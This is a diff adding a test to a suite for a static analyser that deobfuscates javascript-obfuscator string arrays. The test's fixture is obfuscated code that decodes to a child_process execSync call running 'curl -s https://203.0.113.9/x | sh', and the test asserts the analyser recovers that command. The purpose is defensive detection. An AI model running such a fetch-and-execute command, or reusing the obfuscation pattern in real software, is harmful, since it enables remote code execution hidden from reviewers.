@@ -377,6 +377,17 @@ describe("javascript-obfuscator's string array, read without running it", () => 
     expect(call?.args[0]).toEqual({ kind: 'string', value: 'whoami', partial: false });
   });
 
+  it('the older layout resolves too: the array declared at the top, rotated a counted number of times, entries in platform base64', () => {
+    const strings = ['child_process', 'execSync', 'curl -s https://203.0.113.9/x | sh', 'log'];
+    const count = 0x2b9;
+    // Stored rotated right, so that `count` left shifts put each string back at its index.
+    const shift = count % strings.length;
+    const stored = [...strings.slice(strings.length - shift), ...strings.slice(0, strings.length - shift)].map((t) => `'${Buffer.from(t).toString('base64')}'`);
+    const code = `var _0x2d8f=[${stored.join(',')}];(function(_0x4a1b,_0x1c9e){var _0x3f7a=function(_0x5b2c){while(--_0x5b2c){_0x4a1b['push'](_0x4a1b['shift']());}};_0x3f7a(++_0x1c9e);}(_0x2d8f,${count}));var _0x3c1e=function(_0x4a1b){_0x4a1b=_0x4a1b-0x0;var _0x1c9e=_0x2d8f[_0x4a1b];if(_0x3c1e['cache']===undefined){_0x3c1e['cache']={};}var _0x5b2c=_0x3c1e['cache'][_0x4a1b];if(_0x5b2c===undefined){_0x5b2c=Buffer['from'](_0x1c9e,'base64')['toString']('utf8');_0x3c1e['cache'][_0x4a1b]=_0x5b2c;}return _0x5b2c;};console[_0x3c1e(0x3)]('ok');require(_0x3c1e(0x0))[_0x3c1e(0x1)](_0x3c1e(0x2));`;
+    const call = ast(code).calls.find((c) => c.callee === 'child_process.execSync');
+    expect(call?.args[0]).toEqual({ kind: 'string', value: strings[2], partial: false });
+  });
+
   it('a wrong rotation target leaves the strings unresolved rather than misread', () => {
     const code = fixture('string-array-rotated.js').replace('0x6689d', '0x1');
     expect(ast(code).calls.map((c) => c.callee)).not.toContain('https.request');
